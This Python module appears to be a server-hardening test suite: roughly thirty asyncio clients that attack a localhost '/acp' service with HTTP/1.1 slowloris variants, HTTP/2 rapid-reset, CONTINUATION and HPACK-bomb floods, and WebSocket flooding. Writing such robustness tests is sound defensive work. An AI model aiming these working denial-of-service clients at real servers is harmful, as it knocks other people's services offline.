"""Clients that mean no good: each does one thing to a server, as fast as it can, until it is told to stop.

`python attacks.py NAME PORT SECONDS` is one of them as a process of its own.
"""

import asyncio
import contextlib
import os
import random
import struct
import sys

import hpack

HEAD = [(":method", "GET"), (":path", "/acp"), (":scheme", "http"), (":authority", "a")]
POST = [(":method", "POST"), *HEAD[1:], ("content-type", "application/json")]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, PING, RESET, WINDOW, CONTINUATION, DATA, HEADERS, PRIORITY = 4, 6, 3, 8, 9, 0, 1, 2
END_STREAM, END_HEADERS = 1, 4
SOCKETS = 50  # of an attack that holds many
UPGRADE = (
    b"GET /acp HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)
POST_OF = b"POST /acp HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
INITIALIZE = b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":1}}'


def frame(kind, payload=b"", stream=0, flags=0):
    """A frame of HTTP/2."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def message(opcode, data=b"", *, fin=True, mask=b"\0\0\0\0", rsv=0, size=None):
    """A frame of a WebSocket; `mask` None leaves it bare, `size` is what it says of its length."""
    size = len(data) if size is None else size
    bit = 0 if mask is None else 0x80
    if size < 126:
        length = struct.pack("!B", bit | size)
    elif size < 65536:
        length = struct.pack("!BH", bit | 126, size)
    else:
        length = struct.pack("!BQ", bit | 127, size)
    covered = bytes(byte ^ mask[at % 4] for at, byte in enumerate(data)) if mask and any(mask) else data
    return bytes([(fin << 7) | (rsv << 4) | opcode]) + length + (mask or b"") + covered


class Socket:
    """A socket whose other end may hang up on it, which is what should happen."""

    def __init__(self, port, *, reads=True):
        self._port, self._reads = port, reads
        self._reading = None

    async def __aenter__(self):
        self._reader, self._writer = await asyncio.open_connection("127.0.0.1", self._port, limit=4096)
        return self

    async def _read(self):
        with contextlib.suppress(OSError):
            while await self._reader.read(65536):
                pass

    async def ask(self, data):
        """Send a request of HTTP/1.1, and see the head of its answer."""
        self._writer.write(data)
        return await self._reader.readuntil(b"\r\n\r\n")

    async def send(self, data):
        """Raises OSError once the other end has hung up."""
        if self._reads and not self._reading:
            self._reading = asyncio.create_task(self._read())
        if self._reading and self._reading.done():
            raise ConnectionResetError
        self._writer.write(data)
        await self._writer.drain()
        await asyncio.sleep(0)

    async def __aexit__(self, *_):
        if self._reading:
            self._reading.cancel()
            await asyncio.gather(self._reading, return_exceptions=True)
        self._writer.transport.abort()
        with contextlib.suppress(OSError):
            await self._writer.wait_closed()


class Stop:
    """Says when an attack is over, and counts how often it was hung up on until then."""

    def __init__(self):
        self.is_over = False
        self.hang_ups = 0

    async def wait(self):
        while not self.is_over:  # noqa: ASYNC110 (it is set from where there is no loop yet)
            await asyncio.sleep(0.05)

    async def again(self, port, attack, *, reads=True):
        """Attack on one socket after the other."""
        while not self.is_over:
            try:
                async with Socket(port, reads=reads) as socket:
                    await attack(socket)
            except (OSError, asyncio.IncompleteReadError):
                self.hang_ups += 1
            await asyncio.sleep(0)


def attack(*, reads=True, side_by_side=1):
    """A function that has a socket for as long as it may attack, as an attack on a port."""

    def wrapped(function):
        async def attacking(port, stop):
            chance = random.Random(function.__name__)
            one = lambda socket: function(socket, stop, chance)  # noqa: E731
            await asyncio.gather(*(stop.again(port, one, reads=reads) for _ in range(side_by_side)))

        ATTACKS[function.__name__] = attacking
        return attacking

    return wrapped


ATTACKS = {}


# HTTP/1.1


@attack(side_by_side=SOCKETS)
async def heads_letter_by_letter(socket, stop, chance):
    await socket.send(b"GET /acp HTTP/1.1\r\nHost: a\r\n")
    while not stop.is_over:
        await socket.send(b"X: y\r\n")
        await asyncio.sleep(chance.random() / 10)


@attack(side_by_side=SOCKETS)
async def bodies_letter_by_letter(socket, stop, chance):
    await socket.send(POST_OF % 999_999)
    while not stop.is_over:
        await socket.send(b" ")
        await asyncio.sleep(chance.random() / 10)


@attack(side_by_side=SOCKETS)
async def bodies_left_half_way(socket, stop, chance):
    await socket.send(POST_OF % 15_000_000)
    for _ in range(14_900_000 // 65536):
        await socket.send(b" " * 65536)
    await stop.wait()


@attack()
async def heads_without_end(socket, stop, chance):
    await socket.send(b"GET /acp HTTP/1.1\r\nHost: a\r\n")
    while not stop.is_over:
        await socket.send(b"X-%d: y\r\n" % chance.randrange(10**9) * 1000)


@attack()
async def many_large_heads(socket, stop, chance):
    head = b"".join(b"X-%d: y\r\n" % number for number in range(4000))
    while not stop.is_over:
        await socket.send(b"PUT /acp HTTP/1.1\r\nHost: a\r\n" + head + b"\r\n")


@attack()
async def chunks_of_a_byte(socket, stop, chance):
    await socket.send(POST_OF.replace(b"Content-Length: %d", b"Transfer-Encoding: chunked"))
    while not stop.is_over:
        await socket.send(b"1\r\n \r\n" * 4000)


@attack(reads=False)
async def requests_ahead_of_an_answer(socket, stop, chance):
    """An answer that does not end, and request after request behind it."""
    head = (await socket.ask(POST_OF % len(INITIALIZE) + INITIALIZE)).lower()
    id = head.partition(b"acp-connection-id: ")[2].partition(b"\r\n")[0]
    await socket.send(b"GET /acp HTTP/1.1\r\nHost: a\r\nAccept: text/event-stream\r\n")
    await socket.send(b"Acp-Connection-Id: %b\r\n\r\n" % id)
    while not stop.is_over:
        await socket.send(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 4000)


# HTTP/2


async def begin(socket, settings=b""):
    await socket.send(PREFACE + frame(SETTINGS, settings))


def asking(stream, *, ends=True, head=HEAD):
    block = hpack.Encoder().encode(head)
    return frame(HEADERS, block, stream, END_HEADERS | (END_STREAM if ends else 0))


@attack()
async def requests_taken_back(socket, stop, chance):
    await begin(socket)
    for first in range(1, 2**30, 200):
        if stop.is_over:
            return
        streams = range(first, first + 200, 2)
        await socket.send(b"".join(asking(s) + frame(RESET, b"\0\0\0\x08", s) for s in streams))


@attack()
async def requests_that_make_us_take_back(socket, stop, chance):
    await begin(socket)
    for first in range(1, 2**30, 200):
        if stop.is_over:
            return
        streams = range(first, first + 200, 2)
        await socket.send(b"".join(asking(s) + frame(WINDOW, b"\x7f\xff\xff\xff", s) for s in streams))


@attack()
async def heads_continued_without_end(socket, stop, chance):
    await begin(socket)
    await socket.send(frame(HEADERS, hpack.Encoder().encode(HEAD), 1, END_STREAM))
    while not stop.is_over:
        await socket.send(frame(CONTINUATION, b"", 1) * 1000)


@attack()
async def heads_that_unfold(socket, stop, chance):
    """A few bytes that say: that long header again, and again."""
    await begin(socket)
    encoder = hpack.Encoder()
    for stream in range(1, 2**30, 2):
        if stop.is_over:
            return
        block = encoder.encode([*HEAD, ("x", "y" * 4000)]) + b"\xbe" * 15_000
        await socket.send(frame(HEADERS, block[:16000], stream, END_HEADERS | END_STREAM))


@attack()
async def pings(socket, stop, chance):
    await begin(socket)
    while not stop.is_over:
        await socket.send(frame(PING, b"12345678") * 4000)


@attack(reads=False)
async def pings_whose_answers_nobody_reads(socket, stop, chance):
    await begin(socket)
    while not stop.is_over:
        await socket.send(frame(PING, b"12345678") * 4000)


@attack()
async def settings_again_and_again(socket, stop, chance):
    await begin(socket)
    while not stop.is_over:
        await socket.send(frame(SETTINGS, struct.pack("!HI", 4, 70_000)) * 4000)


@attack()
async def windows_by_a_byte(socket, stop, chance):
    await begin(socket)
    while not stop.is_over:
        await socket.send(frame(WINDOW, b"\0\0\0\x01") * 4000)


@attack()
async def priorities(socket, stop, chance):
    await begin(socket)
    while not stop.is_over:
        await socket.send(frame(PRIORITY, b"\0\0\0\0\x10", 1) * 4000)


@attack()
async def data_of_nothing(socket, stop, chance):
    await begin(socket)
    await socket.send(asking(1, ends=False, head=POST))
    while not stop.is_over:
        await socket.send(frame(DATA, b"", 1) * 4000)


@attack()
async def data_of_a_byte(socket, stop, chance):
    await begin(socket)
    await socket.send(asking(1, ends=False, head=POST))
    while not stop.is_over:
        await socket.send(frame(DATA, b" ", 1) * 4000)


@attack(side_by_side=SOCKETS)
async def frames_larger_than_allowed(socket, stop, chance):
    await begin(socket)
    await socket.send(b"\xff\xff\xff\x00\x00\x00\x00\x00\x01")
    while not stop.is_over:
        await socket.send(b" " * 65536)


@attack(reads=False)
async def streams_without_a_window(socket, stop, chance):
    """As many requests as there may be, and no room for their answers."""
    await begin(socket, struct.pack("!HI", 4, 0))
    await socket.send(b"".join(asking(stream) for stream in range(1, 2000, 2)))
    await stop.wait()


@attack()
async def noise(socket, stop, chance):
    await begin(socket)
    while not stop.is_over:
        kind, flags, stream = chance.randrange(12), chance.randrange(256), chance.randrange(4)
        await socket.send(frame(kind, chance.randbytes(chance.randrange(40)), stream, flags))


# WebSocket


@attack(reads=False)
async def websocket_pings_nobody_reads(socket, stop, chance):
    await socket.ask(UPGRADE)
    while not stop.is_over:
        await socket.send(message(9, b"x" * 100) * 1000)


@attack()
async def websocket_pings(socket, stop, chance):
    await socket.ask(UPGRADE)
    while not stop.is_over:
        await socket.send(message(9, b"") * 4000)


@attack()
async def websocket_fragments_of_nothing(socket, stop, chance):
    await socket.ask(UPGRADE)
    await socket.send(message(1, b"", fin=False))
    while not stop.is_over:
        await socket.send(message(0, b"", fin=False) * 4000)


@attack(side_by_side=SOCKETS)
async def websocket_messages_that_never_end(socket, stop, chance):
    await socket.ask(UPGRADE)
    await socket.send(message(1, size=15_000_000))
    for _ in range(14_900_000 // 65536):
        await socket.send(b" " * 65536)
    await stop.wait()


@attack()
async def websocket_messages_of_nothing(socket, stop, chance):
    await socket.ask(UPGRADE)
    while not stop.is_over:
        await socket.send(message(1, b"") * 4000)


@attack()
async def websocket_frames_without_measure(socket, stop, chance):
    await socket.ask(UPGRADE)
    await socket.send(message(1, size=2**62))
    while not stop.is_over:
        await socket.send(b" " * 65536)


@attack()
async def websocket_noise(socket, stop, chance):
    await socket.ask(UPGRADE)
    while not stop.is_over:
        await socket.send(message(chance.randrange(16), chance.randbytes(20), fin=chance.random() < 0.5))


# Either


@attack(side_by_side=SOCKETS)
async def sockets_that_say_nothing(socket, stop, chance):
    await asyncio.sleep(0.2)


async def _attack_as_a_process(name, port, seconds):
    stop = Stop()
    asyncio.get_running_loop().call_later(seconds, setattr, stop, "is_over", True)
    await asyncio.wait([asyncio.create_task(ATTACKS[name](port, stop))], timeout=seconds + 1)
    os._exit(0)


if __name__ == "__main__":
    asyncio.run(_attack_as_a_process(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
